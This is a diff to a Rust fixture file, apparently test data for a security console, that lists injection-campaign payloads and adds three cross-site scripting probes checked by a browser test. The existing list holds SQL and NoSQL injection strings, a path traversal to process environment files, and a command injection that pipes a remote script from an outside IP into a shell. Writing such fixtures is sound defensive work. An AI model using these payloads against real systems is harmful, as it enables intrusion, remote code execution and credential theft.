@@ -29,8 +29,9 @@ pub const SCANNER_AGENT: &str = "sqlmap/1.7.2#stable (https://sqlmap.org)";
 /// The principal whose keys the attacker holds.
 pub const CONTRACTOR: &str = "arn:aws:iam::123456789012:user/dev-contractor";
 
-/// Attack payloads of the injection campaign, as a scanner sends them.
-pub const CAMPAIGN: [&str; 8] = [
+/// Attack payloads of the injection campaign, as a scanner sends them. The cross-site scripting probes
+/// also reach the console's pages as stored text (its browser test checks that none runs).
+pub const CAMPAIGN: [&str; 11] = [
     "1' UNION SELECT username, password FROM users--",
     "1%27%20OR%201%3D1--",
     "; curl http://185.220.101.34/x.sh | sh",
@@ -39,6 +40,9 @@ pub const CAMPAIGN: [&str; 8] = [
     "../../../../proc/self/environ",
     "{{7*7}}",
     "{\"username\":\"admin\",\"password\":{\"$ne\":null}}",
+    "<script>document.title='pwned-script'</script>",
+    "\"><img src=x onerror=\"document.title='pwned-img'\">",
+    "javascript:document.title='pwned-link'",
 ];
 
 /// The functions each story happens to, by index in the fleet.
